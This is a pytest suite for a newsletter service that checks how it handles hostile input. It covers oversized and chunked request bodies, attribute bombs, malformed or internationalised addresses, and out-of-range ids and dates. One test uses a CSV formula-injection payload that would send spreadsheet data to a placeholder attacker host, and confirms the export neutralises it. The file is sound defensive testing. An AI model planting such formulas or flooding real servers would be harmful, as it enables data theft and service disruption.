"""Hostile input at the web face, against real servers on both databases: bodies too large
to hold (sent by strangers and by token holders), internationalised addresses, attribute
bombs, CSV formulas in column names, batch positions, and a failing idempotent request.

The memory tests run ``tidings serve`` as its own process and read its RSS from /proc."""

import asyncio
import csv
import html
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from aiosmtpd.controller import Controller
from sqlalchemy import func, select, text

from tests.builders import articles, newsletter, subscribers
from tests.smtpserver import RecordingHandler, free_port, smtp_server
from tests.web.console import csrf, make_user, sign_in
from tests.web.forms import form_to
from tests.web.site import Site, site_with_mail
from tests.webserver import web_server
from tidings.access.apitokens import create_token
from tidings.audience.imports.importer import import_subscribers
from tidings.compose.oneoff import send_one_off
from tidings.compose.service import OneOff
from tidings.config import Settings, SmtpTarget
from tidings.db.engine import Database
from tidings.db.models import (
    Article,
    Delivery,
    DeliveryState,
    Edition,
    IdempotencyKey,
    Newsletter,
    Source,
    Subscriber,
    Subscription,
    SubscriptionStatus,
    UserRole,
)
from tidings.deliver.runner import run_worker
from tidings.mail.transport import PermanentDeliveryError, SmtpConnection

MB = 1024 * 1024
HUGE = 300 * MB
#: How much the server's peak RSS may grow while refusing a huge body.
RSS_ALLOWANCE = 40 * MB


# --- the server as its own process, and its memory --------------------------------------


@dataclass
class Served:
    port: int
    pid: int


def _memory(pid: int) -> dict[str, int]:
    """VmRSS and VmHWM (peak) of a process, in bytes, from /proc/PID/status."""
    figures = {}
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            name, _, value = line.partition(":")
            if name in ("VmRSS", "VmHWM"):
                figures[name] = int(value.split()[0]) * 1024
    return figures


@contextmanager
def _tidings_serve(settings: Settings) -> Iterator[Served]:
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("TIDINGS_")}
    env.update(
        TIDINGS_DATABASE_URL=settings.resolved_database_url,
        TIDINGS_SECRET_KEY=settings.secret,
        TIDINGS_DATA_DIR=str(settings.data_dir),
    )
    process = subprocess.Popen(
        [sys.executable, "-m", "tidings", "serve", "--port", str(port)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                if httpx.get(f"http://127.0.0.1:{port}/healthz").status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert process.poll() is None, "tidings serve exited"
            assert time.monotonic() < deadline, "tidings serve did not start"
            time.sleep(0.1)
        yield Served(port, process.pid)
    finally:
        process.terminate()
        process.wait(timeout=15)


def _json_body(size: int) -> Iterator[bytes]:
    """A bulk import of about ``size`` bytes, generated as it is sent."""
    yield b'{"newsletter": "daily", "subscribers": ['
    record = b'{"email": "reader@example.ge", "name": "Nino Abashidze"},' * 1000
    for _ in range(size // len(record)):
        yield record


@dataclass
class Answer:
    status: int
    body: bytes
    seconds: float


def _raw_post(port: int, path: str, headers: dict[str, str], chunked: bool, size: int) -> Answer:
    """POST a generated body of ``size`` bytes over a raw socket (a thread keeps sending
    while the answer is awaited), as an attacker would; the answer and how long it took."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=60)
    framing = {"Transfer-Encoding": "chunked"} if chunked else {"Content-Length": str(size)}
    head = f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    head += "".join(f"{k}: {v}\r\n" for k, v in {**headers, **framing}.items())
    sock.sendall((head + "\r\n").encode())
    started = time.monotonic()

    def pump() -> None:
        try:
            for chunk in _json_body(size):
                sock.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk) if chunked else chunk)
            if chunked:
                sock.sendall(b"0\r\n\r\n")
        except OSError:
            pass  # the server answered and closed: what a refusal looks like

    sender = threading.Thread(target=pump, daemon=True)
    sender.start()
    received = b""
    try:
        while b"\r\n\r\n" not in received:
            part = sock.recv(65536)
            if not part:
                break
            received += part
        head_part, _, body = received.partition(b"\r\n\r\n")
        length = re.search(rb"(?i)content-length: *(\d+)", head_part)
        while length and len(body) < int(length.group(1)):
            part = sock.recv(65536)
            if not part:
                break
            body += part
    finally:
        seconds = time.monotonic() - started
        sock.close()
        sender.join(timeout=30)
    return Answer(int(received.split(b" ", 2)[1]), body, seconds)


@pytest.fixture
def served(db: Database, settings: Settings) -> Iterator[tuple[Served, str]]:
    newsletter(db)
    _, secret = create_token(db, "importer", UserRole.admin, "test")
    with _tidings_serve(settings) as server:
        yield server, secret


def _measure(served: Served, send: Callable[[], Answer]) -> tuple[Answer, dict[str, int]]:
    """Send, and the server's RSS before and after and how much its peak grew meanwhile."""
    httpx.get(f"http://127.0.0.1:{served.port}/healthz")
    before = _memory(served.pid)
    answer = send()
    time.sleep(0.5)  # anything still reading would keep growing meanwhile
    after = _memory(served.pid)
    figures = {
        "rss_before": before["VmRSS"],
        "rss_after": after["VmRSS"],
        "peak_growth": after["VmHWM"] - max(before["VmHWM"], before["VmRSS"]),
    }
    print(f"\n{figures}, answered {answer.status} in {answer.seconds:.2f} s")
    return answer, figures


def test_a_huge_declared_body_without_a_token_is_refused_unread(
    served: tuple[Served, str],
) -> None:
    server, _ = served
    answer, figures = _measure(
        server,
        lambda: _raw_post(server.port, "/api/v1/subscribers/import", {}, False, HUGE),
    )
    assert answer.status in (401, 413), answer.body[:300]
    assert answer.seconds < 5, f"took {answer.seconds:.1f} s"
    assert figures["rss_after"] - figures["rss_before"] < RSS_ALLOWANCE
    assert figures["peak_growth"] < RSS_ALLOWANCE


def test_a_huge_chunked_body_without_a_token_gets_401_unread(
    served: tuple[Served, str],
) -> None:
    server, _ = served
    answer, figures = _measure(
        server,
        lambda: _raw_post(server.port, "/api/v1/subscribers/import", {}, True, HUGE),
    )
    assert answer.status == 401, answer.body[:300]
    assert json.loads(answer.body)["error"]["code"] == "unauthenticated"
    assert answer.seconds < 5, f"took {answer.seconds:.1f} s"
    assert figures["peak_growth"] < RSS_ALLOWANCE


def test_a_huge_chunked_body_with_a_token_is_cut_off_at_the_cap(
    served: tuple[Served, str],
) -> None:
    server, secret = served
    auth = {"Authorization": f"Bearer {secret}"}
    answer, figures = _measure(
        server,
        lambda: _raw_post(server.port, "/api/v1/subscribers/import", auth, True, HUGE),
    )
    assert answer.status == 413, answer.body[:300]
    assert json.loads(answer.body)["error"]["code"] == "too_large"
    assert answer.seconds < 5, f"took {answer.seconds:.1f} s"
    assert figures["peak_growth"] < RSS_ALLOWANCE


# --- console uploads: their own cap (max_upload_bytes), everything else the small one ----


def _csv_of(rows: int, note_bytes: int) -> bytes:
    """A subscriber CSV of ``rows`` readers, each with a ``note`` attribute this long."""
    note = "n" * note_bytes
    lines = [f"reader{i}@example.ge,Reader {i},{note}\n" for i in range(rows)]
    return ("email,name,note\n" + "".join(lines)).encode()


@pytest.fixture
def default_caps(db: Database, settings: Settings) -> Iterator[Site]:
    newsletter(db)
    with site_with_mail(db, settings) as site:
        yield site


def test_a_20_mb_csv_upload_through_the_console_is_imported(default_caps: Site) -> None:
    site = default_caps
    big = _csv_of(10_000, 2_100)
    assert len(big) > 20 * MB > site.settings.max_request_bytes
    client = sign_in(site.base, make_user(site.db, UserRole.admin))
    client.timeout = httpx.Timeout(120)
    preview = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": csrf(client), "newsletter": "daily", "confirmed": "true"},
        files={"file": ("readers.csv", big, "text/csv")},
    )
    assert preview.status_code == 200, preview.text[:300]
    key = preview.text.split('action="/admin/subscribers/import/', 1)[1].split('"', 1)[0]
    assert (site.settings.data_dir / "uploads" / f"{key}.csv").stat().st_size == len(big)
    done = client.post(
        f"/admin/subscribers/import/{key}",
        data={"csrf_token": csrf(client), "newsletter": "daily", "confirmed": "true"},
    )
    assert done.status_code == 200, done.text[:300]
    with site.db.session() as session:
        assert session.scalar(select(func.count()).select_from(Subscriber)) == 10_000
    assert not (site.settings.data_dir / "uploads" / f"{key}.csv").exists()


def test_a_20_mb_json_body_to_the_api_is_still_refused(default_caps: Site) -> None:
    _, secret = create_token(default_caps.db, "importer", UserRole.admin, "test")
    records = [{"email": f"reader{i}@example.ge", "name": "n" * 2_100} for i in range(10_000)]
    body = json.dumps({"newsletter": "daily", "subscribers": records}).encode()
    assert len(body) > 20 * MB
    answer = httpx.post(
        f"{default_caps.base}/api/v1/subscribers/import",
        content=body,
        headers={"Authorization": f"Bearer {secret}", "Content-Type": "application/json"},
        timeout=60,
    )
    # Refused on its declared length (plain text then; a chunked body gets the API's shape).
    assert answer.status_code == 413, answer.text[:300]
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert _stored_emails(default_caps.db) == set()


@pytest.fixture
def small_cap(db: Database, settings: Settings) -> Iterator[Site]:
    """Uploads capped at 256 KB; the request cap left at its (larger) default, so these
    tests show the upload's own cap at work."""
    newsletter(db)
    capped = settings.model_copy(update={"max_upload_bytes": 256 * 1024})
    assert capped.max_request_bytes > capped.max_upload_bytes
    with site_with_mail(db, capped) as site:
        yield site


def test_a_console_upload_over_the_cap_is_refused_and_not_stored(small_cap: Site) -> None:
    client = sign_in(small_cap.base, make_user(small_cap.db, UserRole.admin))
    big = b"email,name\n" + b"reader@example.ge,Nino\n" * 20_000
    answer = client.post(
        "/admin/subscribers/import",
        data={"csrf_token": csrf(client), "newsletter": "daily"},
        files={"file": ("readers.csv", big, "text/csv")},
    )
    assert answer.status_code == 413
    assert "Request too large" in answer.text or "Content Too Large" in answer.text
    uploads = small_cap.settings.data_dir / "uploads"
    assert not uploads.exists() or not list(uploads.iterdir())


def test_a_chunked_console_upload_over_the_cap_gets_a_plain_413(small_cap: Site) -> None:
    client = sign_in(small_cap.base, make_user(small_cap.db, UserRole.admin))
    token = csrf(client)
    boundary = "tidingsboundary"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n',
        f'--{boundary}\r\nContent-Disposition: form-data; name="newsletter"\r\n\r\ndaily\r\n',
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="r.csv"\r\n'
        "Content-Type: text/csv\r\n\r\nemail\r\n",
    ]

    def body() -> Iterator[bytes]:
        for part in parts:
            yield part.encode()
        for _ in range(100):
            yield b"reader@example.ge\r\n" * 1000
        yield f"\r\n--{boundary}--\r\n".encode()

    answer = client.post(
        "/admin/subscribers/import",
        content=body(),
        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    assert answer.status_code == 413
    assert answer.headers["content-type"].startswith("text/plain")


# --- internationalised addresses ---------------------------------------------------------


def _sign_up(site: Site, email: str) -> httpx.Response:
    with httpx.Client() as client:
        page = client.get(f"{site.base}/subscribe/daily")
        data = {**form_to(page.text, "/subscribe/daily").hidden, "email": email, "name": "Nino"}
        return client.post(f"{site.base}/subscribe/daily", data=data)


def _stored_emails(db: Database) -> set[str]:
    with db.session() as session:
        return set(session.scalars(select(Subscriber.email)))


@pytest.fixture
def site(db: Database, settings: Settings) -> Iterator[Site]:
    newsletter(db)
    with site_with_mail(db, settings) as started:
        yield started


def test_an_idn_address_signs_up_and_gets_its_confirmation(site: Site) -> None:
    for typed in ("Nino@Пример.РФ", "user@пример.рф"):
        answer = _sign_up(site, typed)
        assert answer.status_code == 200, answer.text
    # The sign-up is recorded and confirmed after the answer: wait for the mail.
    site.wait_for_mail(2)
    expected = {"nino@xn--e1afmkfd.xn--p1ai", "user@xn--e1afmkfd.xn--p1ai"}
    assert set(site.smtp.recipients()) == expected
    assert _stored_emails(site.db) == expected


def test_a_non_ascii_local_part_is_refused_at_the_door(site: Site) -> None:
    answer = _sign_up(site, "ლევანი@example.ge")
    assert answer.status_code == 422
    # The page says why, in the words the API and the CLI use, and keeps what was typed.
    shown = html.unescape(answer.text)
    assert "Internationalized characters before the @-sign are not supported" in shown
    assert "does not look like an email address" not in shown
    assert 'value="ლევანი@example.ge"' in shown
    for broken, reason in (("nino.example.ge", "must have an @-sign"), ("nino@ge", "period")):
        page = _sign_up(site, broken)
        assert page.status_code == 422 and reason in html.unescape(page.text), broken
    time.sleep(0.5)  # nothing was queued, so nothing can arrive late either
    assert _stored_emails(site.db) == set() and site.smtp.caught == []


@pytest.fixture
def api(db: Database, settings: Settings) -> Iterator[httpx.Client]:
    newsletter(db)
    _, secret = create_token(db, "admin", UserRole.admin, "test")
    auth = {"Authorization": f"Bearer {secret}"}
    with (
        web_server(settings, db) as base,
        httpx.Client(base_url=f"{base}/api/v1", headers=auth) as client,
    ):
        yield client


def test_the_api_stores_idn_domains_in_ascii_and_refuses_utf8_local_parts(
    api: httpx.Client, db: Database
) -> None:
    created = api.post("/subscribers", json={"email": "nino@пример.рф", "newsletter": "daily"})
    assert created.status_code == 201, created.text
    assert created.json()["email"] == "nino@xn--e1afmkfd.xn--p1ai"
    refused = api.post("/subscribers", json={"email": "нино@example.ge", "newsletter": "daily"})
    assert refused.status_code == 422
    assert "before the @-sign" in refused.json()["error"]["message"]
    suppressed = api.post("/suppressions", json={"email": "nika@ПРИМЕР.рф"})
    assert suppressed.status_code == 201
    bulk = api.post(
        "/subscribers/import",
        json={
            "newsletter": "daily",
            "subscribers": [{"email": "нино@example.ge"}, {"email": "Lasha@пример.рф"}],
        },
    )
    assert bulk.status_code == 200, bulk.text
    assert [e["position"] for e in bulk.json()["invalid"]] == [0]
    assert _stored_emails(db) == {"nino@xn--e1afmkfd.xn--p1ai", "lasha@xn--e1afmkfd.xn--p1ai"}


# --- attributes, positions and byte-order marks in the bulk import -----------------------


def test_bulk_positions_are_record_indexes_and_a_bom_key_is_read(
    api: httpx.Client, db: Database
) -> None:
    records = [
        {"email": "a@example.ge", "name": "Line\nbreak\r\nand more\nbreaks"},
        {"email": "b@example.ge", "note": "one\ntwo\nthree"},
        {"email": "not an address"},
        {"\ufeffemail": "bom@example.ge"},
        {"email": "c@example.ge", "EMAIL": "d@example.ge"},
    ]
    answer = api.post("/subscribers/import", json={"newsletter": "daily", "subscribers": records})
    assert answer.status_code == 200, answer.text
    invalid = answer.json()["invalid"]
    assert [e["position"] for e in invalid] == [2, 4]
    assert "twice" in invalid[1]["reason"]
    assert _stored_emails(db) == {"a@example.ge", "b@example.ge", "bom@example.ge"}


def test_attribute_bombs_are_refused_per_subscriber(
    api: httpx.Client, db: Database, settings: Settings
) -> None:
    wide = {
        "email": "wide@example.ge",
        **{f"c{i}": "x" for i in range(settings.max_attributes + 1)},
    }
    heavy = {
        "email": "heavy@example.ge",
        "bio": "y" * 900,
        **{f"k{i}": "z" * 900 for i in range(20)},
    }
    fine = {"email": "fine@example.ge", "city": "Tbilisi"}
    answer = api.post(
        "/subscribers/import", json={"newsletter": "daily", "subscribers": [wide, heavy, fine]}
    )
    assert answer.status_code == 200, answer.text
    reasons = {e["position"]: e["reason"] for e in answer.json()["invalid"]}
    assert set(reasons) == {0, 1}
    assert "attributes" in reasons[0] and "attributes" in reasons[1]
    assert _stored_emails(db) == {"fine@example.ge"}
    subscriber_id = api.get("/subscribers", params={"q": "fine"}).json()["items"][0]["id"]
    patched = api.patch(
        f"/subscribers/{subscriber_id}",
        json={"attributes": {f"k{i}": "z" * 900 for i in range(20)}},
    )
    assert patched.status_code == 422
    assert "bytes" in patched.json()["error"]["message"]


def test_a_csv_with_ten_thousand_columns_is_refused_row_by_row(
    db: Database, settings: Settings
) -> None:
    newsletter(db)
    header = ["email", *(f"col{i}" for i in range(10_000))]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerow(["wide@example.ge", *("v" * 10 for _ in range(10_000))])
    writer.writerow(["narrow@example.ge", "kept", *("" for _ in range(9_999))])
    with site_with_mail(db, settings) as site:
        client = sign_in(site.base, make_user(db, UserRole.admin))
        token = csrf(client)
        preview = client.post(
            "/admin/subscribers/import",
            data={"csrf_token": token, "newsletter": "daily"},
            files={"file": ("wide.csv", out.getvalue().encode(), "text/csv")},
        )
        assert preview.status_code == 200, preview.text
        key = re.search(r"/admin/subscribers/import/([A-Za-z0-9_-]+)", preview.text)
        assert key
        done = client.post(
            f"/admin/subscribers/import/{key.group(1)}",
            data={"csrf_token": token, "newsletter": "daily"},
        )
        assert done.status_code == 200, done.text
        report = client.get(f"/admin/subscribers/import/{key.group(1)}/report.csv").text
    assert "invalid row, line 2" in report and "10000 attributes" in report
    assert _stored_emails(db) == {"narrow@example.ge"}
    with db.session() as session:
        kept = session.scalar(select(Subscriber).where(Subscriber.email == "narrow@example.ge"))
        assert kept is not None and kept.attributes == {"col0": "kept"}


# --- CSV formulas in column names ---------------------------------------------------------


def test_a_formula_column_name_is_guarded_on_export_and_read_back(
    api: httpx.Client, db: Database, tmp_path: Path
) -> None:
    created = api.post(
        "/subscribers", json={"email": "nino@example.ge", "newsletter": "daily", "confirmed": True}
    ).json()
    formula = '=hyperlink("http://evil.example/?x="&a2,"click")'
    patched = api.patch(f"/subscribers/{created['id']}", json={"attributes": {formula: "1"}})
    assert patched.status_code == 200, patched.text
    base = str(api.base_url).removesuffix("/api/v1/")
    client = sign_in(base, make_user(db, UserRole.admin))
    exported = client.get("/admin/subscribers/export.csv", params={"newsletter": "daily"}).text
    header = next(csv.reader(io.StringIO(exported)))
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header
    assert "'" + formula in header
    # The import reads the guarded name back as the attribute it was.
    api.delete(f"/subscribers/{created['id']}")
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    import_subscribers(db, "daily", path, True, 100)
    with db.session() as session:
        back = session.scalar(select(Subscriber).where(Subscriber.email == "nino@example.ge"))
        assert back is not None and back.attributes == {formula: "1"}


# --- sender names with commas and @ ------------------------------------------------------


def test_a_quoted_sender_survives_the_api_and_the_console(api: httpx.Client, db: Database) -> None:
    sender = '"Daily, The Paper @ Tbilisi" <desk@messenger.example.ge>'
    patched = api.patch("/newsletters/daily", json={"sender": sender})
    assert patched.status_code == 200, patched.text
    assert patched.json()["sender"] == sender
    # Editing something else sends the stored sender back: it must parse the same.
    again = api.patch("/newsletters/daily", json={"name": "The Daily"})
    assert again.status_code == 200, again.text
    assert again.json()["sender"] == sender
    base = str(api.base_url).removesuffix("/api/v1/")
    client = sign_in(base, make_user(db, UserRole.admin))
    form = client.get("/admin/newsletters/daily/edit").text
    shown = re.search(r'id="sender"[^>]*value="([^"]*)"', form)
    assert shown, form
    value = html.unescape(shown.group(1))
    assert value == sender
    fields = {
        "csrf_token": csrf(client),
        "name": "The Daily",
        "sender": value,
        "schedule": "0 7 * * *",
        "timezone": "Asia/Tbilisi",
        "min_articles": "1",
        "max_articles": "10",
    }
    saved = client.post("/admin/newsletters/daily/edit", data=fields)
    assert saved.status_code == 303, saved.text
    with db.session() as session:
        stored = session.scalar(select(Newsletter).where(Newsletter.slug == "daily"))
        assert stored is not None
        assert (stored.from_name, stored.from_address) == (
            "Daily, The Paper @ Tbilisi",
            "desk@messenger.example.ge",
        )


# --- an idempotency key after a database error -------------------------------------------


def test_an_idempotency_key_is_released_after_a_database_error(
    db: Database, settings: Settings
) -> None:
    newsletter(db)
    subscribers(db, "daily", 2)
    articles(db, "daily", 2, datetime.now(UTC) - timedelta(hours=1))
    _, secret = create_token(db, "editor", UserRole.editor, "test")
    body = {"newsletter": "daily", "subject": "Budget day"}
    headers = {"Authorization": f"Bearer {secret}", "Idempotency-Key": "budget-day-1"}
    with web_server(settings, db) as base:
        with db.engine.begin() as connection:
            connection.execute(text("ALTER TABLE deliveries RENAME TO deliveries_away"))
        try:
            failed = httpx.post(f"{base}/api/v1/editions", json=body, headers=headers)
        finally:
            with db.engine.begin() as connection:
                connection.execute(text("ALTER TABLE deliveries_away RENAME TO deliveries"))
        assert failed.status_code == 500
        with db.session() as session:
            assert session.scalars(select(IdempotencyKey)).all() == []
        retried = httpx.post(f"{base}/api/v1/editions", json=body, headers=headers)
        assert retried.status_code == 201, retried.text
        repeated = httpx.post(f"{base}/api/v1/editions", json=body, headers=headers)
        assert repeated.json() == retried.json()


# --- a real send of an IDN address, and a UTF-8 one the server cannot take ---------------


@contextmanager
def _smtp_without_utf8() -> Iterator[tuple[RecordingHandler, int]]:
    """A recording server that does not offer SMTPUTF8, as many relays do not."""
    handler, port = RecordingHandler(), free_port()
    controller = Controller(handler, hostname="127.0.0.1", port=port, enable_SMTPUTF8=False)
    controller.start()
    try:
        yield handler, port
    finally:
        controller.stop()


async def _send_each(port: int, recipients: list[str]) -> list[str]:
    """Send one message to each recipient on one connection; each one's outcome."""
    connection = SmtpConnection(SmtpTarget("127.0.0.1", port, "none", None, None), timeout=5)
    outcomes = []
    try:
        for recipient in recipients:
            try:
                reply = await connection.send(
                    "d@example.ge", recipient, b"Subject: hi\r\n\r\nhi\r\n"
                )
                outcomes.append(str(reply.code))
            except PermanentDeliveryError as exc:
                outcomes.append(str(exc))
    finally:
        await connection.close()
    return outcomes


def test_transport_fails_one_utf8_delivery_cleanly_without_smtputf8() -> None:
    recipients = ["нино@example.ge", "nino@xn--e1afmkfd.xn--p1ai"]
    with _smtp_without_utf8() as (handler, port):
        refused, sent = asyncio.run(_send_each(port, recipients))
        assert handler.recipients() == ["nino@xn--e1afmkfd.xn--p1ai"]
    assert refused.startswith("553 5.6.7") and "SMTPUTF8" in refused
    assert sent == "250"


def test_transport_uses_smtputf8_when_the_server_offers_it() -> None:
    with smtp_server() as (handler, port):
        outcomes = asyncio.run(_send_each(port, ["нино@example.ge"]))
        assert handler.recipients() == ["нино@example.ge"]
    assert outcomes == ["250"]


def test_a_stored_utf8_address_fails_alone_and_the_edition_goes_on(
    db: Database, settings: Settings
) -> None:
    newsletter(db)
    readers = subscribers(db, "daily", 2)
    articles(db, "daily", 2, datetime.now(UTC) - timedelta(hours=1))
    with db.session() as session:  # a row stored before addresses were normalised
        legacy = Subscriber(email="нино@example.ge", name="Nino", attributes={})
        session.add(legacy)
        session.flush()
        daily = session.scalars(select(Newsletter).where(Newsletter.slug == "daily")).one()
        session.add(
            Subscription(
                subscriber_id=legacy.id,
                newsletter_id=daily.id,
                status=SubscriptionStatus.active,
                consent_method="import",
            )
        )
        session.commit()
    edition = send_one_off(
        db,
        settings,
        "daily",
        OneOff(article_ids=[], intro_markdown=None, subject=None, created_by="test"),
    ).edition_id
    with _smtp_without_utf8() as (handler, port):
        live = settings.model_copy(update={"smtp_url": f"smtp://127.0.0.1:{port}"})
        asyncio.run(run_worker(db, live, drain=True, stop=asyncio.Event()))
        assert sorted(handler.recipients()) == sorted(readers)
    with db.session() as session:
        outcome = {
            email: (state, reply)
            for email, state, reply in session.execute(
                select(Subscriber.email, Delivery.state, Delivery.last_reply)
                .join(Subscriber, Subscriber.id == Delivery.subscriber_id)
                .where(Delivery.edition_id == edition)
            )
        }
    assert {outcome[r][0] for r in readers} == {DeliveryState.sent}
    state, reply = outcome["нино@example.ge"]
    assert state == DeliveryState.failed and reply


# --- out-of-range ids, unreadable URLs and dates that leave the calendar: 4xx, never 500 ---

HUGE_ID = "99999999999999999999"
#: Valid ISO 8601, but out of Python's years 1-9999 once converted to UTC.
OFF_THE_CALENDAR = ("9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00")


@dataclass
class Doors:
    base: str
    api: httpx.Client
    console: httpx.Client
    article: int


@pytest.fixture
def doors(db: Database, settings: Settings) -> Iterator[Doors]:
    newsletter(db)
    (article,) = articles(db, "daily", 1, datetime.now(UTC) - timedelta(hours=1))
    _, secret = create_token(db, "admin", UserRole.admin, "test")
    auth = {"Authorization": f"Bearer {secret}"}
    with (
        site_with_mail(db, settings) as site,
        httpx.Client(base_url=f"{site.base}/api/v1", headers=auth) as api,
    ):
        console = sign_in(site.base, make_user(db, UserRole.admin))
        try:
            yield Doors(site.base, api, console, article)
        finally:
            console.close()


def _counts(db: Database) -> tuple[int, int, int, int]:
    with db.session() as session:
        return (
            session.scalar(select(func.count()).select_from(Newsletter)) or 0,
            session.scalar(select(func.count()).select_from(Source)) or 0,
            session.scalar(select(func.count()).select_from(Article)) or 0,
            session.scalar(select(func.count()).select_from(Edition)) or 0,
        )


def test_out_of_range_ids_in_paths_and_queries_get_a_4xx(doors: Doors) -> None:
    answers = {
        path: httpx.get(doors.base + path).status_code
        for path in (f"/archive/daily/{HUGE_ID}", "/archive/daily/2147483648")
    }
    for path in (
        f"/admin/subscribers?after={HUGE_ID}",
        "/admin/subscribers?after=1e20",
        f"/admin/suppressions?after={HUGE_ID}",
        f"/admin/editions/preview.html?newsletter=daily&article={HUGE_ID}",
        f"/admin/editions/preview.html?newsletter=daily&article={doors.article}&article=2147483648",
    ):
        answers[path] = doors.console.get(path).status_code
    assert answers == dict.fromkeys(answers, 422), answers
    assert doors.console.get("/admin/subscribers?after=0").status_code == 200  # still fine
    # The edition builder reads its ticked articles from the raw form.
    built = doors.console.post(
        "/admin/editions/new",
        data={
            "csrf_token": csrf(doors.console),
            "newsletter": "daily",
            "article": [str(doors.article), HUGE_ID],
            "do": "preview",
        },
    )
    assert built.status_code == 404, built.text[:300]
    assert f"no article {HUGE_ID}" in built.text


def test_an_unreadable_feed_url_is_refused_at_every_door(doors: Doors, db: Database) -> None:
    before = _counts(db)
    broken = "http://[::1"
    added = doors.api.post("/newsletters/daily/sources", json={"url": broken})
    assert added.status_code == 422, added.text
    assert "Invalid IPv6 URL" in added.json()["error"]["message"]
    created = doors.api.post(
        "/newsletters",
        json={"slug": "weekly", "name": "W", "sender": "W <w@example.ge>", "feeds": [broken]},
    )
    assert created.status_code == 422, created.text
    for port in ("99999", "abc"):
        odd = doors.api.post("/newsletters/daily/sources", json={"url": f"http://x.ge:{port}/"})
        assert odd.status_code == 422, odd.text
    token = csrf(doors.console)
    feed = doors.console.post(
        "/admin/newsletters/daily/feeds", data={"csrf_token": token, "url": broken}
    )
    assert feed.status_code == 422 and "Invalid IPv6 URL" in feed.text
    fields = {
        "csrf_token": token,
        "slug": "weekly",
        "name": "W",
        "sender": "W <w@example.ge>",
        "schedule": "0 7 * * *",
        "timezone": "UTC",
        "min_articles": "1",
        "max_articles": "5",
        "feeds": broken,
    }
    new = doors.console.post("/admin/newsletters/new", data=fields)
    assert new.status_code == 422, new.text[:300]
    assert _counts(db) == before


def test_dates_that_leave_the_calendar_in_utc_are_refused(doors: Doors, db: Database) -> None:
    before = _counts(db)
    for moment in OFF_THE_CALENDAR:
        pushed = doors.api.post(
            "/newsletters/daily/articles",
            json={
                "articles": [
                    {"url": "https://x.example.ge/odd", "title": "Odd", "published": moment},
                ]
            },
        )
        assert pushed.status_code == 200, pushed.text
        (reason,) = pushed.json()["rejected"]
        assert "out of range" in reason
        scheduled = doors.api.post(
            "/editions",
            json={
                "newsletter": "daily",
                "article_ids": [doors.article],
                "send": "scheduled",
                "scheduled_for": moment,
            },
        )
        assert scheduled.status_code == 422, scheduled.text
        assert "out of range" in scheduled.json()["error"]["message"]
    # The console's builder: a local time in the newsletter's zone (Tbilisi, +04:00).
    built = doors.console.post(
        "/admin/editions/new",
        data={
            "csrf_token": csrf(doors.console),
            "newsletter": "daily",
            "article": str(doors.article),
            "do": "schedule",
            "send_at": "0001-01-01T00:00",
        },
    )
    assert built.status_code == 200 and "out of range" in built.text
    assert _counts(db) == before


# --- a part before the @-sign longer than RFC 5321's 64 characters ------------------------

LONG_LOCAL = "a" * 65 + "@example.ge"


def test_a_long_local_part_is_refused_on_the_form_with_the_reason(site: Site) -> None:
    answer = _sign_up(site, LONG_LOCAL)
    assert answer.status_code == 422
    shown = html.unescape(answer.text)
    assert "too long before the @-sign (65 characters, at most 64)" in shown
    assert _sign_up(site, "a" * 64 + "@example.ge").status_code == 200
    site.wait_for_mail(1)
    time.sleep(0.3)  # the refused one was never queued: nothing arrives late either
    assert _stored_emails(site.db) == {"a" * 64 + "@example.ge"}
    assert site.smtp.recipients() == ["a" * 64 + "@example.ge"]


def test_a_long_local_part_is_refused_by_the_api(api: httpx.Client, db: Database) -> None:
    created = api.post("/subscribers", json={"email": LONG_LOCAL, "newsletter": "daily"})
    assert created.status_code == 422
    assert "too long before the @-sign" in created.json()["error"]["message"]
    bulk = api.post(
        "/subscribers/import",
        json={"newsletter": "daily", "subscribers": [{"email": LONG_LOCAL}, {"email": "b@x.ge"}]},
    )
    assert bulk.status_code == 200, bulk.text
    assert [e["position"] for e in bulk.json()["invalid"]] == [0]
    assert _stored_emails(db) == {"b@x.ge"}
